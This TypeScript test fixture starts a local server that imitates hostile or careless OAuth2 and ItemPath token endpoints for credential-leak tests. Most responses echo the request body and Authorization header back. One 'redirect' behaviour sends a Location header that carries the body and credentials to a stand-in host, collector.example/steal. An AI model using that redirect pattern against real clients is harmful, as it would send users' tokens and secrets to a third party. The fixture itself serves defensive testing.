// An upstream that answers every way a careless or hostile token endpoint
// does, for the leak tests: on 127.0.0.1, the first path segment picks the
// behaviour (`/401-echo/token`, `/redirect/api/users/login`...), so one
// server plays every provider of a deployment, whatever its kind. Every
// answer but `ok` and `hang` repeats what it was sent (body and
// Authorization header) back in its body, its OAuth2 `error` code and its
// `Location`, as an error page that echoes its request does. `ok` mints:
// access tokens that start with `accessToken`, refresh tokens that start
// with `refreshToken`, in each kind's shape (OAuth2, ItemPath login and
// refresh). It logs nothing.
import { createServer, type IncomingMessage, type ServerResponse } from "node:http"
import type { AddressInfo } from "node:net"

export const behaviours = [
  "ok",
  "401-echo",
  "403-echo",
  "429-echo",
  "500-echo",
  "200-echo",
  "200-not-json",
  "redirect",
  "hang"
] as const
export type Behaviour = (typeof behaviours)[number]

export interface HostileUpstreamOptions {
  /** The prefix of every access token `ok` issues. */
  readonly accessToken: string
  /** The prefix of every refresh token `ok` issues. */
  readonly refreshToken: string
}

export interface HostileUpstream {
  /** `http://127.0.0.1:<port>/<behaviour>`: a token URL or ItemPath base URL that behaves so. */
  readonly url: (behaviour: Behaviour) => string
  /** Every token `ok` issued, access and refresh. */
  readonly issued: () => ReadonlyArray<string>
  readonly close: () => Promise<void>
}

const readBody = (req: IncomingMessage): Promise<string> =>
  new Promise((resolve) => {
    let body = ""
    req.setEncoding("utf8")
    req.on("data", (chunk: string) => (body += chunk))
    req.on("end", () => resolve(body))
    req.on("error", () => resolve(body))
  })

const json = (res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}) => {
  res.writeHead(status, { "content-type": "application/json", ...headers })
  res.end(JSON.stringify(body))
}

/** What an echoing error page says: everything it was sent, everywhere it can. */
const echoed = (body: string, authorization: string) => ({
  error: `${body} ${authorization}`,
  error_description: `you sent ${body} with ${authorization}`,
  request: { body, authorization },
  accessToken: body,
  token: authorization
})

export const startHostileUpstream = async (options: HostileUpstreamOptions): Promise<HostileUpstream> => {
  const issued: Array<string> = []
  let minted = 0
  const mint = (prefix: string) => {
    const token = `${prefix}-${++minted}`
    issued.push(token)
    return token
  }

  const ok = (res: ServerResponse, path: string) => {
    if (path.endsWith("/api/users/login")) {
      const accessToken = mint(options.accessToken)
      return json(res, 200, { login: true, accessToken, refreshToken: mint(options.refreshToken) })
    }
    if (path.endsWith("/api/users/refresh")) return json(res, 200, { accessToken: mint(options.accessToken) })
    return json(res, 200, {
      access_token: mint(options.accessToken),
      token_type: "Bearer",
      expires_in: 3600,
      refresh_token: mint(options.refreshToken)
    })
  }

  const answer = async (req: IncomingMessage, res: ServerResponse) => {
    const path = req.url ?? "/"
    const behaviour = path.split("/")[1] as Behaviour
    const body = await readBody(req)
    const authorization = req.headers.authorization ?? ""
    switch (behaviour) {
      case "ok":
        return ok(res, path)
      case "hang":
        return
      case "401-echo":
      case "403-echo":
      case "500-echo":
        return json(res, Number(behaviour.slice(0, 3)), echoed(body, authorization))
      case "429-echo":
        return json(res, 429, echoed(body, authorization), { "retry-after": "1" })
      case "200-echo":
        return json(res, 200, { ...echoed(body, authorization), access_token: "" })
      case "200-not-json":
        res.writeHead(200, { "content-type": "text/html" })
        return res.end(`<html><body>you sent ${body} with ${authorization}</body></html>`)
      case "redirect":
        res.writeHead(302, {
          location: `https://user:${encodeURIComponent(body)}@collector.example/steal?${body}&auth=${
            encodeURIComponent(authorization)
          }`
        })
        return res.end(`moved: ${body}`)
      default:
        return json(res, 404, { error: "not_found" })
    }
  }

  const server = createServer((req, res) => void answer(req, res))
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject)
    server.listen(0, "127.0.0.1", () => resolve())
  })
  const { port } = server.address() as AddressInfo
  return {
    url: (behaviour) => `http://127.0.0.1:${port}/${behaviour}`,
    issued: () => issued,
    close: () =>
      new Promise<void>((done) => {
        server.close(() => done())
        server.closeAllConnections()
      })
  }
}
